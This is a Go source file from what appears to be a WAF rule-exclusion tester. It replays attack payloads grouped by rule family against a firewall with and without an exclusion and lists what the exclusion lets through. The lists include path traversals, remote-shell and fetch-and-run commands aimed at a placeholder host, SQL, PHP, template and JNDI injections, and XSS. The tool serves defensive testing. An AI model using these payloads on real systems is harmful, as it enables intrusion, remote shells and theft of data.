package replay

import "fanlight/internal/waf"

// Kind is a kind of attack that a group of rules looks for.
type Kind struct {
	Name     string
	payloads []string
}

// kindOf is what a rule looks for, by its group; nil: nothing that a value of a
// parameter alone would be.
func kindOf(rule int) *Kind {
	switch rule / 1000 {
	case 930:
		return &Kind{"path traversals", []string{
			"../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", `..\..\..\windows\win.ini`, "....//....//etc/passwd", "/etc/passwd",
			"/proc/self/environ", "file:///etc/hosts", "../.git/config", "../WEB-INF/web.xml", "/var/log/auth.log", "../../.env", "..;/..;/manager/html"}}
	case 931:
		return &Kind{"inclusions of remote files", []string{
			"http://192.0.2.9/shell.txt", "https://192.0.2.9/a.php?", "ftp://192.0.2.9/x", "http://attacker.test/shell.php?", "file://192.0.2.9/x",
			"php://input", "zlib:http://192.0.2.9/a", "ogg://192.0.2.9/a", "http://192.0.2.9/?cmd=id", "gopher://192.0.2.9:70/", "dict://192.0.2.9:11211/", "jar:http://192.0.2.9!/a"}}
	case 932:
		return &Kind{"system commands", []string{
			"; cat /etc/passwd", "| id", "`whoami`", "$(uname -a)", "&& wget http://192.0.2.9/x", "; nc -e /bin/sh 192.0.2.9 4444",
			"() { :; }; /bin/bash -c id", "| powershell -enc SQBFAFgA", "& ping -n 3 192.0.2.9", "; curl 192.0.2.9 | sh", "/bin/c?t /etc/p?sswd", "cmd.exe /c dir"}}
	case 933:
		return &Kind{"injections of PHP", []string{
			"<?php phpinfo(); ?>", "<?= system($_GET['c']) ?>", "php://filter/convert.base64-encode/resource=index.php", "data://text/plain;base64,PD8=",
			`O:8:"stdClass":1:{s:1:"a";s:1:"b";}`, "${@phpinfo()}", "eval(base64_decode('aWQ='))", "$_SERVER['HTTP_HOST']", "shell_exec('id')", "assert($_POST[1])",
			"file_get_contents('/etc/passwd')", "allow_url_include=1;auto_prepend_file=php://input"}}
	case 934:
		return &Kind{"injections of code", []string{
			"require('child_process').exec('id')", "{{7*7}}{{self.__init__.__globals__}}", "__proto__[admin]=1", "constructor.prototype.admin=1", "http://169.254.169.254/latest/meta-data/",
			"process.mainModule.require('fs')", "#{system('id')}", "<%= `id` %>", "eval(String.fromCharCode(97))", "${{<%[%'\"}}%\\", "@{system 'id'}", "_$$ND_FUNC$$_function(){}()"}}
	case 941:
		return &Kind{"scripts in pages", []string{
			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(document.cookie)", `"><script src=//192.0.2.9></script>`,
			"<iframe src=javascript:alert(1)>", "<body onload=alert(1)>", "<a href=\"javas&#99;ript:alert(1)\">x</a>", "';alert(1)//", "<details open ontoggle=alert(1)>",
			"<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<object data=javascript:alert(1)>"}}
	case 942:
		return &Kind{"SQL injections", []string{
			"1' OR '1'='1", "1 UNION SELECT username, password FROM users", "1; DROP TABLE users--", "' OR 1=1#", "1 AND SLEEP(5)", "1' AND (SELECT COUNT(*) FROM information_schema.tables)>0--",
			"admin'--", "1' WAITFOR DELAY '0:0:5'--", "1/**/UNION/**/ALL/**/SELECT/**/NULL", "1' AND extractvalue(1,concat(0x7e,version()))--", "'; EXEC xp_cmdshell('dir')--", "1) OR (1=1"}}
	case 944:
		return &Kind{"attacks on Java", []string{
			"${jndi:ldap://192.0.2.9/a}", "${${lower:j}ndi:rmi://192.0.2.9/a}", "java.lang.Runtime.getRuntime().exec('id')", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", "%{(#a=@java.lang.Runtime@getRuntime())}",
			"class.module.classLoader.resources.context.parent.pipeline", "T(java.lang.ProcessBuilder).new('id').start()", "new javax.script.ScriptEngineManager()", "org.apache.commons.collections.functors.InvokerTransformer",
			"${script:javascript:1}", "#{T(java.lang.System).getenv()}", "${jndi:dns://192.0.2.9}"}}
	}
	return nil
}

// Attacks is what became of attacks of one kind on one target.
type Attacks struct {
	Kind   string
	Target string
	Tried  int
	Before int      // of them were refused without the exclusion
	After  int      // and with it
	Lost   []string // those that only pass with it
	Placed bool     // they could be put where the target is
}

// attack tries a kind of attack on one target of a request.
func attack(r *Request, kind *Kind, target string, before, after *Judge) Attacks {
	out := Attacks{Kind: kind.Name, Target: target}
	for _, payload := range kind.payloads {
		with, placed := r.with(target, payload)
		if !placed {
			return out
		}
		out.Placed = true
		out.Tried++
		was, is := before.Judge(with), after.Judge(with)
		if was.Outcome == Refused {
			out.Before++
		}
		if is.Outcome == Refused {
			out.After++
		} else if was.Outcome == Refused {
			out.Lost = append(out.Lost, payload)
		}
	}
	return out
}

// attacks tries those that the excluded rules look for, each on its target.
func attacks(r *Request, excluded []Excluded, before, after *Judge) (out []Attacks) {
	seen := map[string]bool{}
	for i := range excluded {
		e := &excluded[i]
		kind := kindOf(e.Cause.Rule)
		if kind == nil || seen[kind.Name+e.Cause.Target] {
			continue
		}
		seen[kind.Name+e.Cause.Target] = true
		out = append(out, attack(r, kind, e.Cause.Target, before, after))
	}
	return out
}

// Excluded is an exclusion, and the match that it is for.
type Excluded struct {
	waf.Exclusion
	Cause Cause
}
